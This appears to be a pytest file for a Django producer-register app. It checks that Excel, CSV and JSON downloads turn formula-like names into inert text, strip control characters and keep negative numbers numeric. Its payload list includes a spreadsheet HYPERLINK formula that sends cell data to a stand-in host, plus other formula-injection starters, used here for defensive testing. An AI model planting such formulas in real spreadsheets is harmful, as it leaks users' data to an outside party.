"""Every download goes through ocop.core.exports: a name that is a formula comes out as inert text, control
characters never make a download fail, numbers (negative ones included) stay numbers."""

import csv
import datetime as dt
import io
import json
import zipfile

import pytest
from openpyxl import load_workbook

from ocop.producers.models import Producer, Product
from ocop.plans.services import budget_line_add, disbursement_add, plan_create, support_add

from .conftest import make_producer, make_product, recognise

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
            "\r=1+1"]
# PostgreSQL cannot store NUL at all (it is refused at the database), so stored names carry every other control
CONTROLS = "Mắm\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x1b\x7f\x80\x85\x9f tôm"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
DAY = dt.date.today() - dt.timedelta(days=30)


def _escaped(payload: str) -> str:
    return "'" + payload.replace("\r", "")


@pytest.fixture
def hostile(users, province):
    """Producers and products named with formulas and control characters, recognised, supported by a plan whose
    only budget line is overspent (a negative remainder). Names are written with update() as old or hand-edited
    rows may hold them: save() would already fold tabs and control characters into spaces."""
    plan = plan_create(province=province, year=DAY.year, user=users["province"])
    for index, payload in enumerate(PAYLOADS + [CONTROLS]):
        producer = make_producer(province, name=f"HTX {index}", tax_code="")
        product = make_product(producer, name=f"Sản phẩm {index}")
        recognise(product, stars=3, day=DAY, number=f"{index}/QĐ-UBND")
        support_add(plan=plan, producer=producer, product=product, kind="training", date=DAY, amount=0,
                    user=users["province"])
        Product.objects.filter(pk=product.pk).update(name=payload)
        if index % 2:
            Producer.objects.filter(pk=producer.pk).update(name=payload)
    line = budget_line_add(plan=plan, activity="support", allocation=1_000_000, user=users["province"])
    disbursement_add(line=line, date=DAY, amount=1_500_000, user=users["province"], override=True,
                     override_reason="Quyết định bổ sung kinh phí")
    return plan


def _workbook(response):
    assert response.status_code == 200 and response["Content-Type"].startswith("application/vnd.openxmlformats")
    body = response.getvalue()
    archive = zipfile.ZipFile(io.BytesIO(body))
    assert not any("<f>" in archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
    return load_workbook(io.BytesIO(body))


def _texts(wb):
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


def _assert_inert(texts):
    assert not [t for t in texts if t.startswith(FORMULA_STARTS)]
    for payload in PAYLOADS:
        assert _escaped(payload) in texts
    assert "Mắm tôm" in texts
    assert not [t for t in texts if any(ord(ch) < 32 and ch not in "\t\n" or 0x7F <= ord(ch) <= 0x9F for ch in t)]


def test_register_download(client, hostile):
    wb = _workbook(client.get("/dashboard/register.xlsx?province=96"))
    _assert_inert(_texts(wb))
    row = next(wb.active.iter_rows(min_row=2, max_row=2, values_only=True))
    assert isinstance(row[8], int) and isinstance(row[11], dt.datetime)  # stars, decision date


def test_certificate_list_download(client, users, hostile):
    client.force_login(users["province"])
    _assert_inert(_texts(_workbook(client.get("/certificates/export.xlsx?view=all"))))


def test_plan_report_download_keeps_a_negative_remainder_a_number(client, users, hostile):
    client.force_login(users["province"])
    wb = _workbook(client.get(f"/plans/{hostile.pk}/report.xlsx"))
    _assert_inert(_texts(wb))
    money = list(wb["Kinh phí"].iter_rows(min_row=2, values_only=True))
    assert money[0][1:4] == (1_000_000, 1_500_000, -500_000)
    assert wb["Kinh phí"]["D2"].data_type == "n" and wb["Kinh phí"]["D2"].number_format == "#,##0"
    assert wb["Hỗ trợ chủ thể"]["A2"].is_date


def test_open_data_csv(client, hostile):
    response = client.get("/open-data/register.csv")
    assert response.status_code == 200 and response["X-License"].startswith("CC BY")
    text = response.getvalue().decode("utf-8")
    assert text.startswith("\ufeffproduct,")
    rows = list(csv.DictReader(io.StringIO(text[1:])))
    _assert_inert([value for row in rows for value in row.values()])


def test_open_data_json_stays_json_without_control_characters(client, hostile):
    response = client.get("/open-data/register.json")
    assert response.status_code == 200
    data = json.loads(response.getvalue())
    names = {r["product"] for r in data["records"]}
    assert "Mắm tôm" in names and set(PAYLOADS) - {"\r=1+1"} <= names and "=1+1" in names
    assert data["meta"]["fields"][0] == "product" and data["records"][0]["stars"] == 3
